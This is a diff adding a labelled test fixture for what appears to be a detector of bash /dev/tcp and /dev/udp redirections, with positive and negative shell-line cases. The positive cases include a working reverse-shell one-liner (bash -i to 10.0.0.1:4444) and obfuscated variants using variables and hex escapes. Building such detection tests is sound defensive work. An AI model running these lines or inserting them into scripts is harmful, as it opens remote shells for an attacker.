@@ -1,0 +1,23 @@
+#@ pos redirect from /dev/tcp
+cat < /dev/tcp/example.com/80
+#@ pos exec opens /dev/tcp on a descriptor
+exec 3<>/dev/tcp/10.0.0.1/4444
+#@ pos reverse shell
+bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
+#@ pos /dev/udp in a string with variables
+echo "$msg" > "/dev/udp/$host/$port"
+#@ pos built from a variable
+d=/dev/tcp
+exec 5<>"$d/10.0.0.1/80"
+#@ pos hidden in an ansi-c string
+cat < $'\x2fdev/tcp/10.0.0.1/80'
+#@ pos in a word with a variable host
+echo ping > /dev/tcp/$HOST/7
+#@ neg other devices
+echo x > /dev/null
+cat /dev/urandom | head -c 16 > key
+#@ neg in a comment
+# exec 3<>/dev/tcp/10.0.0.1/4444
+echo done
+#@ neg a path that only looks alike
+ls /dev/tcpdump-captures
